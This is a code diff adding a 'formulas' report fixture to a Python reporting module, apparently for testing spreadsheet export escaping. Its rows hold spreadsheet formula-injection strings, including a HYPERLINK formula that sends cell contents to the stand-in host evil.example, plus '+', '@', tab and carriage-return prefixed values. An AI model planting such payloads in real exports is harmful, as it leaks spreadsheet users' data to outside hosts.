@@ -62,7 +62,35 @@ def literals(db: Any, params: dict[str, Any]) -> Any:
     return stmt
 
 
+# Rows of the "formulas" report: text a spreadsheet would run, next to
+# negative numbers that must stay numbers.
+FORMULA_ROWS = [
+    ('=HYPERLINK("http://evil.example/?"&A1,"click")', -5, Decimal("-2.50")),
+    ("+1+1", -1, Decimal("-0.01")),
+    ("-2+3", 0, Decimal("0")),
+    ("@SUM(A1:A2)", 3, Decimal("1.25")),
+    ("\tcmd", -2**40, Decimal("-99999999.99")),
+    ("\rcmd", 7, Decimal("7")),
+    ("a=b, -c", 8, Decimal("8")),
+    ("", 9, Decimal("9")),
+]
+
+
+def formulas(db: Any, params: dict[str, Any]) -> Any:
+    """Text that looks like formulas, with negative numbers beside it."""
+    selects = [select(literal(text, String()).label("text"), literal(n, BigInteger()).label("n"),
+                      literal(price, Numeric(14, 2)).label("price"),
+                      literal(position, Integer()).label("position"))
+               for position, (text, n, price) in enumerate(FORMULA_ROWS)]
+    rows = union_all(*selects).subquery("rows")
+    return select(rows).order_by(rows.c.position)
+
+
 def includeme(config: Any) -> None:
+    config.add_report(
+        "formulas", formulas, title="Formulas",
+        columns=[("text", "string"), ("n", "integer"),
+                 {"name": "price", "type": "decimal", "scale": 2}])
     config.add_report(
         "audit-activity", audit_activity, title="Audit activity",
         description="Audit log entries per kind",
